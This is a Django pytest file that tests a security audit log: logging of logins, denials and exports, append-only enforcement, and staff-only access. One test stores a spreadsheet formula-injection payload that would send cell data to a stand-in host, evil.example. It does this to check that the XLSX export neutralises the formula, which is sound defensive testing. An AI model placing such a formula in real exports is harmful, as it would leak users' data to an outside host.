"""The security audit log: what it records (logins, denials, hidden objects, exports, downloads, role
and unit changes), that it is append-only, and that staff alone read and export it."""

from __future__ import annotations

import io

import pytest
from django.db import connection, transaction
from django.db.utils import DatabaseError
from openpyxl import load_workbook

from accounts.models import Role
from audit.models import AuditAction, AuditEvent
from audit.services import record
from conftest import PASSWORD
from testing.factories import draft

pytestmark = pytest.mark.django_db


def events(action: str):
    return AuditEvent.objects.filter(action=action)


def test_login_logout_and_failure_are_recorded_with_address_and_agent(client, alice):
    client.post("/accounts/login/", {"username": "alice", "password": "nope"}, REMOTE_ADDR="10.1.1.1",
                HTTP_USER_AGENT="curl/8")  # fmt: skip
    failed = events(AuditAction.LOGIN_FAILED).get()
    assert failed.username == "alice" and failed.actor is None
    assert failed.ip == "10.1.1.1" and failed.user_agent == "curl/8"
    assert "nope" not in str(failed.detail)
    client.post("/accounts/login/", {"username": "alice", "password": PASSWORD}, REMOTE_ADDR="10.1.1.1")
    login = events(AuditAction.LOGIN).get()
    assert login.actor == alice and login.path == "/accounts/login/"
    client.post("/accounts/logout/")
    assert events(AuditAction.LOGOUT).get().actor == alice


def test_a_403_is_recorded_with_who_and_what(api, cast):
    suggestion = draft(cast)
    from django.core.files.uploadedfile import SimpleUploadedFile

    pdf = SimpleUploadedFile("a.pdf", b"%PDF-1.4 x", content_type="application/pdf")
    response = api(cast.sam).post(
        f"/api/v1/suggestions/{suggestion.pk}/attachments/", {"file": [pdf]}, format="multipart"
    )
    assert response.status_code == 403
    denied = events(AuditAction.DENIED).get()
    assert denied.actor == cast.sam and denied.object_id == str(suggestion.pk)
    assert denied.detail["method"] == "POST"


def test_a_hidden_object_404_is_recorded_in_the_api_and_the_pages(api, client, cast):
    suggestion = draft(cast)
    assert api(cast.carol).get(f"/api/v1/suggestions/{suggestion.pk}/").status_code == 404
    client.force_login(cast.carol)
    assert client.get(f"/suggestions/{suggestion.pk}/").status_code == 404
    rows = list(events(AuditAction.NOT_FOUND).order_by("id"))
    assert [(r.actor, r.object_id) for r in rows] == [(cast.carol, str(suggestion.pk))] * 2


def test_an_unknown_url_is_not_an_object_denial(client, cast):
    client.force_login(cast.carol)
    assert client.get("/no-such-page/").status_code == 404
    assert not events(AuditAction.NOT_FOUND).exists()


def test_exports_and_downloads_are_recorded(client, cast):
    client.force_login(cast.sam)
    response = client.get("/dashboards/units/?format=xlsx")
    assert response.status_code == 200
    export = events(AuditAction.EXPORT).get()
    assert export.actor == cast.sam and export.detail["query"] == {"format": "xlsx"}
    response = client.get("/supervision/inspections/export.xlsx")
    assert response.status_code == 200
    assert events(AuditAction.EXPORT).count() == 2


def test_role_and_unit_changes_are_recorded(cast):
    henry = cast.henry
    henry.unit = cast.finance
    henry.save()
    change = events(AuditAction.UNIT_CHANGE).get()
    assert change.detail == {"username": "henry", "from": cast.water.pk, "to": cast.finance.pk}
    henry.role, henry.unit = Role.STAFF, None
    henry.save()
    assert events(AuditAction.ROLE_CHANGE).get().detail["to"] == Role.STAFF
    henry.full_name = "何亨利二"
    henry.save()
    assert events(AuditAction.ROLE_CHANGE).count() == 1  # other edits are not security events


def test_a_user_created_through_the_api_names_the_staff_member(api, cast):
    body = {"username": "newdep", "password": "Quite-long-pass-2026", "role": Role.DEPUTY, "full_name": "新代表"}
    response = api(cast.sam).post("/api/v1/users/", body, format="json")
    assert response.status_code == 201, response.content
    created = events(AuditAction.USER_CREATED).get(object_id=str(response.json()["id"]))
    assert created.actor == cast.sam and created.detail["role"] == Role.DEPUTY


def test_a_role_change_during_a_request_names_who_made_it(rf, cast):
    """The admin, the API and the services all save the user inside a request the middleware sees."""
    from audit.middleware import AuditMiddleware

    def change_role(request):
        cast.carol.role = Role.SUPERVISOR
        cast.carol.save()
        from django.http import HttpResponse

        return HttpResponse("ok")

    request = rf.post("/admin/accounts/user/1/change/", REMOTE_ADDR="10.2.2.2")
    request.user = cast.sam
    AuditMiddleware(change_role)(request)
    change = events(AuditAction.ROLE_CHANGE).get()
    assert (change.actor, change.ip, change.object_id) == (cast.sam, "10.2.2.2", str(cast.carol.pk))


def test_the_orm_refuses_to_change_or_delete_an_event(alice):
    event = record(AuditAction.LOGIN, actor=alice)
    event.action = AuditAction.LOGOUT
    with pytest.raises(ValueError):
        event.save()
    with pytest.raises(ValueError):
        event.delete()


@pytest.mark.postgres_only
def test_the_database_refuses_updates_and_deletes(alice):
    if connection.vendor != "postgresql":
        pytest.skip("the trigger exists on PostgreSQL only")
    event = record(AuditAction.LOGIN, actor=alice)
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).update(action="forged")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(pk=event.pk).delete()
    event.refresh_from_db()
    assert event.action == AuditAction.LOGIN


def test_staff_read_filter_and_page_the_log(client, cast, django_assert_max_num_queries):
    for n in range(60):
        record(AuditAction.LOGIN_FAILED, username=f"guess{n}")
    record(AuditAction.LOGIN, actor=cast.alice)
    client.force_login(cast.sam)
    with django_assert_max_num_queries(8):
        page = client.get("/audit/")
    assert page.status_code == 200
    assert page.context["page"].paginator.count == AuditEvent.objects.count()
    assert len(page.context["page"].object_list) == 50
    filtered = client.get("/audit/", {"action": AuditAction.LOGIN, "username": "alice"})
    assert [e.username for e in filtered.context["page"]] == ["alice"]
    assert client.get("/audit/", {"page": 2}).status_code == 200


def test_the_xlsx_export_writes_formulas_as_text(client, cast):
    record(AuditAction.LOGIN_FAILED, username='=HYPERLINK("http://evil.example/?d="&A1,"x")')
    client.force_login(cast.sam)
    response = client.get("/audit/", {"format": "xlsx", "action": AuditAction.LOGIN_FAILED})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    cell = ws.cell(row=2, column=3)
    assert cell.value.startswith("=HYPERLINK") and cell.data_type == "s"
    assert events(AuditAction.EXPORT).filter(actor=cast.sam).exists()


@pytest.mark.parametrize("who", ["alice", "henry", "hannah", "victor"])
def test_only_staff_read_the_log(client, api, request, who):
    user = request.getfixturevalue(who)
    client.force_login(user)
    assert client.get("/audit/").status_code == 403
    assert api(user).get("/api/v1/audit-events/").status_code == 403


def test_the_api_lists_events_for_staff(api, cast):
    record(AuditAction.LOGIN_FAILED, username="mallory")
    response = api(cast.sam).get("/api/v1/audit-events/", {"action": AuditAction.LOGIN_FAILED})
    assert response.status_code == 200
    body = response.json()
    assert [r["username"] for r in body["results"]] == ["mallory"]
    assert api(cast.sam).post("/api/v1/audit-events/", {}).status_code == 405
